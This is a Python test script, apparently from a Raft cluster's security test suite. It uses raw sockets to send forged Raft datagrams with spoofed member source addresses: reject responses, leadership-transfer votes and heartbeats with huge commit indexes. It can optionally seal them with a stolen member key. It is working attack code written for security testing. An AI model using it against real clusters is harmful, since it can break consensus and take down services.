#!/usr/bin/env python3
"""Sends forged raft datagrams with a spoofed member source address.

What an off-path attacker on the rack network can do without the cluster
key (issue 15, attack 7): a raw IPv4 socket lets it put any member's
address in the source field. The messages follow raft/msg_codec.h
(version 1) and carry no valid MAC.

  peer_forge.py SRC_IP DST_IP CLUSTER_ID FROM_ID TO_ID TERM COUNT
               [SEALER KEYFILE KEY_OWNER_ID TO_PUBLIC_KEY]

With the four optional arguments the attacker holds a member's key file
(KEY_OWNER_ID's, docs/SECURITY.md 3.5): SEALER (tests/node/peer_seal)
seals every message under the pair key of KEY_OWNER_ID and TO_ID, as that
member would, whatever FROM_ID and SRC_IP claim.

For each of COUNT rounds it sends, from SRC_IP:7001 to DST_IP:7001, an
APPEND_RESP (reject) at TERM, a transfer VOTE at TERM with a huge log, and
an empty APPEND (heartbeat) at TERM with commit 2^40. Test use only: it
sends to the address it is given, nothing else, COUNT x 3 datagrams.
"""
import socket
import struct
import subprocess
import sys
import time

PEER_PORT = 7001


def header(typ, flags, cluster, frm, to, term):
    return struct.pack('<BBHQIIQ', 1, typ, flags, cluster, frm, to, term)


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def ipv4_udp(src, dst, payload):
    udp_len = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 17, udp_len)
    udp = struct.pack('!HHHH', PEER_PORT, PEER_PORT, udp_len, 0) + payload
    csum = checksum(pseudo + udp) or 0xffff
    udp = udp[:6] + struct.pack('!H', csum) + udp[8:]
    total = 20 + udp_len
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, total, 0x4242, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + udp


def seal(args, to, msgs):
    """The messages sealed by peer_seal (one counter each, a new epoch)."""
    sealer, keyfile, owner, pub = args
    data = b''.join(struct.pack('<H', len(m)) + m for m in msgs)
    out = subprocess.run([sealer, keyfile, owner, str(to), pub, str(time.time_ns())],
                         input=data, stdout=subprocess.PIPE, check=True).stdout
    sealed, pos = [], 0
    while pos < len(out):
        (n,) = struct.unpack_from('<H', out, pos)
        sealed.append(out[pos + 2:pos + 2 + n])
        pos += 2 + n
    assert len(sealed) == len(msgs), 'peer_seal returned %d of %d' % (len(sealed), len(msgs))
    return sealed


def main():
    if len(sys.argv) not in (8, 12):
        print(__doc__, file=sys.stderr)
        return 2
    src, dst = sys.argv[1], sys.argv[2]
    cluster, frm, to, term, count = (int(a) for a in sys.argv[3:8])
    if not 1 <= count <= 10000:
        print('peer_forge: COUNT must be 1..10000', file=sys.stderr)
        return 2
    msgs = [
        # APPEND_RESP, reject flag (2): "I have seen a higher term".
        header(6, 2, cluster, frm, to, term) + struct.pack('<QQQQ', 0, 0, 0, 0),
        # VOTE with the transfer flag (1): ignores leader stickiness.
        header(1, 1, cluster, frm, to, term) + struct.pack('<QQ', 1 << 40, term),
        # APPEND heartbeat from a "leader" at term with a huge commit.
        header(5, 0, cluster, frm, to, term) + struct.pack('<QQQQH', 0, 0, 1 << 40, 0, 0),
    ]
    if len(sys.argv) == 12:
        msgs = seal(sys.argv[8:12], to, msgs * count)
        count = 1
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    try:
        for _ in range(count):
            for m in msgs:
                s.sendto(ipv4_udp(src, dst, m), (dst, 0))
    finally:
        s.close()
    return 0


if __name__ == '__main__':
    sys.exit(main())
